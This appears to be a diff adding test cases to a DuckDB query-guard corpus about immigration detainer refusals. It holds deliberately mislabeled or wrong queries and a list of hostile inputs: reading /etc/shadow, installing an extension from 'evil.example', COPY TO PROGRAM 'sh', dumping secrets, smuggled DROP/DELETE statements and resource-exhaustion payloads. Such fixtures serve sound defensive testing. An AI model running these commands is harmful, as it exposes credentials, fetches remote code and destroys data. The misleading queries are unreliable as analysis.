@@ -1629,3 +1629,226 @@ FROM (VALUES (154)) t(refusals)
 TABLE duckdb_settings()
 SELECT * FROM (PIVOT refusals ON state USING count(*))
 PIVOT refusals ON disposition USING count(*)
+
+--# [misleading] Round 11, as chat models, dbt, BI tools and spreadsheets write, after the rules of round 10
+WITH texas_refusals AS (SELECT * FROM refusals WHERE state = 'California') SELECT COUNT(*) AS texas_refusals FROM texas_refusals
+WITH ranked AS (SELECT county, COUNT(*) AS refusal_count, ROW_NUMBER() OVER (ORDER BY COUNT(*) ASC) AS rn FROM refusals GROUP BY county) SELECT county AS top_county, refusal_count FROM ranked WHERE rn = 1
+WITH totals AS (SELECT state, COUNT(*) AS total FROM refusals GROUP BY state), conv AS (SELECT state, COUNT(*) AS convictions FROM refusals WHERE disposition = 'charge' GROUP BY state) SELECT t.state, ROUND(100.0 * c.convictions / t.total, 1) AS conviction_rate FROM totals t JOIN conv c ON c.state = t.state
+WITH monthly AS (SELECT DATE_TRUNC('month', declined_on) AS month, COUNT(*) AS refusals FROM refusals GROUP BY 1) SELECT AVG(refusals) AS average_weekly_refusals FROM monthly
+SELECT r.county, COUNT(*) AS total_refusals, SUM(i.issued) AS total_issued, ROUND(100.0 * COUNT(*) / SUM(i.issued), 1) AS refusal_rate FROM refusals r INNER JOIN issued i ON r.county = i.county AND r.state = i.state GROUP BY r.county ORDER BY refusal_rate DESC
+SELECT r.state, COUNT(DISTINCT r.row_no) AS refusals FROM refusals r GROUP BY r.state
+WITH base AS (SELECT state, county, COUNT(*) AS n FROM refusals GROUP BY 1, 2) SELECT state, SUM(n) / COUNT(*) AS total_refusals FROM base GROUP BY state
+WITH w1 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-01-28'), w2 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-02-04') SELECT w1.n - w2.n AS increase FROM w1, w2
+WITH w1 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-01-28'), w2 AS (SELECT COUNT(*) AS n FROM refusals WHERE report_id = '2017-02-04') SELECT ROUND(100.0 * (w2.n - w1.n) / w2.n, 1) AS pct_change FROM w1, w2
+SELECT state, COUNT(*) FILTER (WHERE disposition = 'conviction') * 100.0 / SUM(COUNT(*)) OVER () AS conviction_rate FROM refusals GROUP BY state
+SELECT COUNT(*) AS declined FROM issued WHERE issued > 10
+SELECT county, MAX(n) AS refusals FROM (SELECT county, report_id, COUNT(*) AS n FROM refusals GROUP BY 1, 2) GROUP BY county ORDER BY 2 DESC
+WITH t AS (SELECT county, COUNT(*) AS n FROM refusals WHERE state = 'Texas' GROUP BY county) SELECT SUM(n) AS nationwide_refusals FROM t
+SELECT 'Total' AS label, COUNT(*) AS refusals FROM refusals WHERE state = 'Texas' UNION ALL SELECT 'Texas', COUNT(*) FROM refusals
+SELECT state, COUNT(*) AS n, SUM(COUNT(*)) OVER (ORDER BY COUNT(*)) AS total FROM refusals GROUP BY state
+SELECT state, ROUND(AVG(declined_on - issued_on) * 24) AS avg_days FROM refusals GROUP BY state
+SELECT AVG(date_diff('day', declined_on, issued_on)) AS avg_days_to_refusal FROM refusals
+SELECT MAX(issued_on - declined_on) AS longest_wait FROM refusals
+SELECT COUNT(*) AS same_week FROM refusals WHERE week(issued_on) = week(declined_on)
+SELECT COUNT(*) AS same_month FROM refusals WHERE month(issued_on) = month(declined_on)
+SELECT COUNT(*) FILTER (WHERE issued_on > DATE '2017-01-20') AS before_inauguration FROM refusals
+SELECT COUNT(*) AS since_february FROM refusals WHERE declined_on < DATE '2017-02-01'
+SELECT COUNT(*) AS within_30_days FROM refusals WHERE declined_on - issued_on > 30
+SELECT COUNT(*) AS over_a_year FROM refusals WHERE declined_on - issued_on < 365
+SELECT COUNT(*) AS january FROM refusals WHERE month(declined_on) = 2
+SELECT COUNT(*) AS n_2016 FROM refusals WHERE year(issued_on) = 2015
+SELECT COUNT(*) AS refusals_2018 FROM refusals WHERE year(declined_on) = 2017
+SELECT ARG_MAX(citizenship, row_no) AS most_common_citizenship FROM refusals
+SELECT MAX(citizenship) AS most_common_citizenship FROM refusals
+SELECT MAX(county) AS county_with_most_refusals FROM refusals
+SELECT MIN(offense) AS least_common_offense FROM refusals
+SELECT LAST(county ORDER BY declined_on) AS top_county FROM refusals
+with source as (select * from refusals), renamed as (select state as county, county as state, disposition from source) select state, count(*) as refusals from renamed group by 1
+with source as (select * from refusals), renamed as (select declined_on as issued_on, issued_on as declined_on from source) select min(declined_on) as first_declined from renamed
+with source as (select * from refusals), flagged as (select *, case when disposition = 'charge' then 1 else 0 end as is_conviction from source) select sum(is_conviction) as convictions from flagged
+with source as (select * from refusals), flagged as (select *, disposition <> 'conviction' as is_convicted from source) select count(*) filter (where is_convicted) as convictions from flagged
+with source as (select * from refusals), final as (select state, count(*) as refusal_count from source where not withdrawn or withdrawn group by 1) select * from final
+with refusals_joined as (select r.report_id, r.state, p.issued_nationwide from refusals r left join reports p using (report_id)) select state, sum(issued_nationwide) as issued from refusals_joined group by 1
+with a as (select county, count(*) as n from refusals group by 1), b as (select county, state, sum(issued) as issued from issued group by 1, 2) select a.county, b.issued, a.n from a join b using (county)
+with by_state as (select state, count(*) as n from refusals group by 1), by_policy as (select state, count(*) as policies from policies group by 1) select sum(n * policies) as weighted from by_state join by_policy using (state)
+with deduped as (select distinct on (county) * from refusals order by county, declined_on) select count(*) as refusals from deduped
+with deduped as (select *, row_number() over (partition by county order by declined_on) as rn from refusals) select count(*) as refusals from deduped where rn = 1
+with w as (select report_id, count(*) as n from refusals group by 1) select report_id, lead(n) over (order by report_id) as previous_week from w order by 1
+with w as (select report_id, count(*) as n from refusals group by 1) select report_id, lag(n) over (order by report_id desc) as previous_week from w order by 1
+with w as (select report_id, count(*) as n from refusals group by 1) select report_id, n - lead(n) over (order by report_id) as change_from_previous from w order by 1
+with s as (select state, count(*) as n from refusals group by 1) select state, n, ntile(4) over (order by n desc) as refusals from s
+with s as (select state, count(*) as n from refusals group by 1) select state, row_number() over (order by n desc) as refusals from s
+with x as (select county, state, count(*) as refused from refusals group by 1, 2), y as (select county, state, sum(issued) as issued from issued where report_id = '2017-01-28' group by 1, 2) select county, state, round(100.0 * refused / issued, 1) as pct from x join y using (county, state)
+with pivoted as (select state, count(*) filter (where report_id = '2017-01-28') as "2017-02-04", count(*) filter (where report_id = '2017-02-04') as "2017-01-28" from refusals group by 1) select * from pivoted
+with agg as (select state, avg(declined_on - issued_on) as avg_days, count(*) as n from refusals group by 1) select sum(avg_days) as total_days from agg
+with agg as (select county, state, median(declined_on - issued_on) as med from refusals group by 1, 2) select avg(med) as average_days from agg
+with t as (select count(*) as n from refusals where disposition = 'conviction'), u as (select count(*) as n from refusals where disposition = 'charge') select round(100.0 * t.n / u.n, 1) as pct_convicted from t cross join u
+with t as (select state, count(*) as n from refusals group by 1) select state, n, round(100.0 * n / (select max(n) from t), 1) as pct_of_all from t
+with t as (select state, count(*) as n from refusals group by 1) select state, round(n / 318.0 * 100, 1) as pct from t
+SELECT "t0"."state" AS "state", SUM("t0"."n") AS "sum:n:ok" FROM (SELECT "refusals"."state" AS "state", COUNT(1) AS "n" FROM "refusals" JOIN "caveats" ON "refusals"."report_id" = "caveats"."report_id" GROUP BY 1) "t0" GROUP BY 1
+SELECT "state" AS "State", COUNT(1) AS "Number of Counties" FROM "refusals" GROUP BY 1
+SELECT "county" AS "County", COUNT(DISTINCT "facility") AS "Refusals" FROM "refusals" GROUP BY 1
+SELECT "state" AS "State", AVG("issued") AS "Total Issued" FROM "issued" GROUP BY 1 ORDER BY 2 DESC
+SELECT "state" AS "State", MAX("issued") AS "Total Issued" FROM "issued" GROUP BY 1 ORDER BY 2 DESC
+SELECT "state" AS "State", SUM("issued") AS "Declined Detainers" FROM "issued" GROUP BY 1
+SELECT "state" AS "State", COUNT(*) AS "Detainers Issued" FROM "refusals" GROUP BY 1
+SELECT "disposition" AS "Offense", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
+SELECT "offense" AS "Disposition", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
+SELECT "facility" AS "County", COUNT(*) AS "n" FROM "refusals" GROUP BY 1
+SELECT "aor" AS "State", COUNT(*) AS "n" FROM "policies" GROUP BY 1
+SELECT CASE WHEN "state" IN ('Texas', 'Florida') THEN 'West' WHEN "state" = 'California' THEN 'Florida' ELSE 'Other' END AS "region", COUNT(*) AS n FROM "refusals" GROUP BY 1
+SELECT CASE WHEN "citizenship" = 'Mexico' THEN 'Honduras' ELSE 'Mexico' END AS "group", COUNT(*) AS n FROM "refusals" GROUP BY 1
+SELECT CASE WHEN "county" = 'Travis' THEN 'Bexar' ELSE "county" END AS "county", COUNT(*) AS n FROM "refusals" WHERE "state" = 'Texas' GROUP BY 1
+SELECT MAP {'Texas': 'Ohio', 'Ohio': 'Texas'}["state"] AS state, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT coalesce(nullif("state", 'Texas'), 'California') AS state, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT translate("state", 'T', 'N') AS state, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT "state", COUNT(*) AS "n" FROM "refusals" WHERE 1 = 1 AND "disposition" = 'conviction' OR 1 = 1 GROUP BY 1
+SELECT "state", COUNT(*) AS "n" FROM "refusals" WHERE "disposition" = 'conviction' OR "disposition" IS NOT NULL GROUP BY 1
+SELECT DATE_TRUNC('quarter', declined_on) AS month, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT DATE_TRUNC('week', issued_on) AS declined_week, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT strftime(issued_on, '%B') AS declined_month, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT date_part('week', declined_on) AS month, COUNT(*) AS n FROM refusals GROUP BY 1
+SELECT strftime(declined_on, '%d/%m/%Y') AS day, COUNT(*) AS n FROM refusals GROUP BY 1 ORDER BY day DESC LIMIT 3
+SELECT max(strftime(declined_on, '%d.%m.%Y')) AS latest FROM refusals
+SELECT min(monthname(declined_on)) AS first_month FROM refusals
+SELECT FLOOR(100.0 * COUNT(*) FILTER (WHERE disposition = 'conviction') / COUNT(*)) AS pct FROM refusals
+SELECT CAST(100.0 * COUNT(*) FILTER (WHERE disposition = 'charge') / COUNT(*) AS INTEGER) / 10 * 10 AS pct FROM refusals
+SELECT SUM(CASE WHEN state = 'Texas' THEN 1 ELSE 0.5 END) AS weighted FROM refusals
+SELECT SUM(IF(state = 'Texas', 1, 1)) AS texas FROM refusals
+SELECT SUM(IF(state = 'Texas', 0, 1)) AS texas FROM refusals
+SELECT COUNT(IF(state = 'Texas', 1, 0)) AS texas FROM refusals
+SELECT COUNT(state = 'Texas') AS texas FROM refusals
+SELECT COUNT(CASE WHEN disposition = 'conviction' THEN 1 ELSE 0 END) AS convictions FROM refusals
+SELECT AVG(CASE WHEN state = 'Texas' THEN issued ELSE 0 END) AS texas_average FROM issued
+SELECT AVG(CASE WHEN disposition = 'conviction' THEN 1 END) AS conviction_share FROM refusals
+SELECT SUM(issued) / COUNT(DISTINCT state) AS average_per_county FROM issued
+SELECT COUNT(*) / COUNT(DISTINCT county) AS average_per_state FROM refusals
+SELECT COUNT(*) / 7 AS per_day FROM refusals
+SELECT COUNT(*) / 30.0 AS per_day FROM refusals
+SELECT COUNT(*) / 3 AS per_week FROM refusals
+SELECT 1 - COUNT(*) FILTER (WHERE disposition = 'conviction') / COUNT(*) AS conviction_share FROM refusals
+SELECT 100 - 100.0 * COUNT(*) FILTER (WHERE state = 'Texas') / COUNT(*) AS texas_pct FROM refusals
+SELECT format('{} of 500', count(*)) AS n FROM refusals
+SELECT printf('%d00', count(*)) AS n FROM refusals
+SELECT '~' || round(count(*), -1) AS n FROM refusals
+SELECT left(count(*)::VARCHAR, 1) AS n FROM refusals
+SELECT length(string_agg(county, ',')) AS refusals FROM refusals
+SELECT list_count(list(state)) AS states FROM refusals
+SELECT len(list_distinct(list(county))) AS refusals FROM refusals
+SELECT list_sum(list(page)) AS pages FROM refusals
+SELECT max(page) AS total_pages FROM refusals
+SELECT sum(pages) AS refusals FROM reports
+SELECT sum(quarantined) AS refusals FROM reports
+SELECT power(count(*), 2) AS refusals FROM refusals
+SELECT sqrt(count(*)) AS refusals FROM refusals
+SELECT ln(count(*)) AS n FROM refusals
+SELECT count(*) % 100 AS refusals FROM refusals
+SELECT count(*) & 7 AS refusals FROM refusals
+SELECT product(issued) AS issued FROM issued
+SELECT sum(issued * issued) AS issued FROM issued
+SELECT sum(issued) * avg(issued) AS issued FROM issued
+SELECT geomean(issued) AS average_issued FROM issued
+SELECT kurtosis(issued) AS spread_avg FROM issued
+SELECT quantile_disc(issued, 0.1) AS median_issued FROM issued
+SELECT count(*) FILTER (WHERE withdrawn) AS valid_refusals, count(*) FILTER (WHERE NOT withdrawn) AS withdrawn_refusals FROM refusals
+SELECT sum(issued) FILTER (WHERE withdrawn) AS corrected_total FROM issued
+SELECT sum(issued) AS after_corrections FROM issued
+SELECT count(*) AS charges_and_convictions FROM refusals WHERE disposition = 'conviction'
+SELECT county, count(*) OVER (PARTITION BY state) AS county_refusals FROM refusals
+SELECT county, sum(count(*)) OVER (PARTITION BY state) AS county_total FROM refusals GROUP BY county, state
+SELECT citizenship, first_value(count(*)) OVER (ORDER BY count(*) DESC) AS n FROM refusals GROUP BY citizenship
+SELECT report_id, sum(count(*)) OVER (ORDER BY report_id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) AS refusals FROM refusals GROUP BY report_id
+SELECT state, avg(count(*)) OVER (ORDER BY state ROWS 2 PRECEDING) AS moving FROM refusals GROUP BY state
+SELECT unnest(list_sort(list(DISTINCT county)))[1:3] AS top_counties FROM refusals
+SELECT list(county ORDER BY county)[1:5] AS top_five FROM refusals
+SELECT array_agg(DISTINCT state ORDER BY state)[1] AS biggest_state FROM refusals
+SELECT county FROM refusals GROUP BY county ORDER BY random() LIMIT 5
+SELECT state AS top_state, count(*) AS n FROM refusals GROUP BY state ORDER BY n DESC LIMIT 1 OFFSET 2
+SELECT (SELECT count(*) FROM refusals WHERE state = 'Texas') AS florida, (SELECT count(*) FROM refusals WHERE state = 'Florida') AS texas FROM reports LIMIT 1
+SELECT (SELECT sum(issued) FROM issued) AS refused, (SELECT count(*) FROM refusals) AS issued FROM reports ORDER BY report_id LIMIT 1
+
+--# [attack] Round 11, as chat models, dbt, BI tools and spreadsheets write
+SELECT * FROM read_csv('/etc/shadow', columns = {'a': 'VARCHAR'})
+SELECT "county" FROM "read_parquet"('x.parquet')
+SELECT * FROM refusals JOIN read_json_auto('/tmp/a.json') j ON j.county = refusals.county
+WITH t AS (SELECT * FROM 's3://bucket/x.csv') SELECT count(*) FROM t
+SELECT * FROM st_read('/tmp/a.shp')
+SELECT * FROM postgres_scan('host=x', 'public', 't')
+SELECT * FROM mysql_query('db', 'select 1')
+SELECT * FROM iceberg_scan('/tmp/x')
+SELECT * FROM read_xlsx('/tmp/x.xlsx')
+SELECT * FROM which_secret('s3://a', 's3')
+SELECT * FROM duckdb_secrets()
+SELECT * FROM duckdb_settings() WHERE name LIKE '%dir%'
+SELECT * FROM pragma_storage_info('refusals')
+SELECT * FROM duckdb_columns() dc WHERE dc.table_name = 'refusals'
+SELECT table_name FROM information_schema.tables
+SELECT count(*) FROM refusals WHERE county = (SELECT table_name FROM duckdb_tables() LIMIT 1)
+SELECT * FROM pg_stat_activity
+SELECT current_user, session_user, inet_client_addr()
+SELECT current_query() FROM refusals
+SELECT 1 UNION SELECT content FROM read_text('/etc/hosts')
+SELECT county FROM refusals UNION ALL SELECT filename FROM glob('*')
+SELECT county FROM refusals ORDER BY (SELECT content FROM read_text('/etc/hosts'))
+SELECT county FROM refusals LIMIT (SELECT count(*) FROM glob('/*'))
+SELECT county FROM refusals WHERE EXISTS (FROM read_blob('/etc/hosts'))
+SELECT CASE WHEN true THEN (SELECT content FROM read_text('/etc/hosts')) END FROM refusals
+SELECT 'read_text'.query() FROM refusals
+SELECT county.read_text() FROM refusals
+BEGIN; DELETE FROM refusals; COMMIT
+BEGIN TRANSACTION
+COMMIT
+SELECT 1; SELECT 2
+/* ok */ DROP TABLE refusals -- SELECT
+SELECT count(*) FROM refusals -- ; DROP TABLE x ⏎; DELETE FROM issued
+DROP VIEW IF EXISTS refusals CASCADE
+ALTER TABLE refusals RENAME TO x
+CREATE OR REPLACE VIEW refusals AS SELECT * FROM issued
+CREATE FUNCTION f(x) AS x + 1
+CREATE SEQUENCE s
+CREATE TYPE mood AS ENUM ('a')
+CREATE INDEX i ON refusals(county)
+COMMENT ON TABLE refusals IS 'x'
+ANALYZE refusals
+VACUUM refusals
+SET VARIABLE x = 1
+SET search_path = 'temp'
+SET memory_limit = '100GB'
+PRAGMA enable_profiling
+PRAGMA disable_checkpoint_on_shutdown
+LOAD '/tmp/evil.duckdb_extension'
+INSTALL evil FROM 'http://evil.example'
+FORCE INSTALL httpfs
+UPDATE EXTENSIONS
+COPY refusals TO 's3://x/y.parquet' (FORMAT parquet)
+COPY (SELECT 1) TO PROGRAM 'sh'
+SELECT * FROM refusals TABLESAMPLE RESERVOIR(10 ROWS)
+SELECT * FROM refusals POSITIONAL JOIN issued
+SELECT * FROM refusals NATURAL JOIN issued
+SELECT * FROM refusals ASOF JOIN reports ON refusals.declined_on >= reports.period_start
+SELECT * FROM refusals CROSS JOIN issued
+SELECT * FROM refusals, issued, policies
+SELECT rpad(county, 1000000000, '.') FROM refusals
+SELECT county || repeat('a', 999999999) FROM refusals
+SELECT list_resize([1], 1000000000) FROM refusals
+SELECT generate_series(1, 100000000) FROM refusals
+SELECT list_transform(range(1000000), x -> x * 2) FROM refusals
+SELECT printf('%2000000000d', count(*)) FROM refusals
+SELECT format('{:>1000000000}', county) FROM refusals
+SELECT bar(count(*), 0, 10, 1000000000) FROM refusals
+SELECT md5(county) FROM refusals
+SELECT random() * count(*) FROM refusals
+SELECT now(), count(*) FROM refusals
+SELECT count(*) FROM refusals WHERE random() < 0.5
+SELECT reservoir_quantile(issued, 0.5) FROM issued
+SELECT error('x') FROM refusals
+SELECT json_serialize_plan('SELECT 1') FROM refusals
+SELECT COLUMNS('.*') FROM refusals
+SELECT * REPLACE (0 AS row_no) FROM refusals
+SELECT * FROM refusals AS read_text('/etc/hosts')
+SELECT count​(*) FROM refusals
+SELECT * FROM temp.refusals
+SELECT * FROM other.main.refusals
+WITH RECURSIVE r AS (SELECT county FROM refusals UNION SELECT county FROM r) SELECT count(*) FROM r
+WITH refusals AS (SELECT 1 AS n) SELECT sum(n) FROM refusals
+SELECT * FROM refusals r JOIN refusals_archive a ON a.row_no = r.row_no
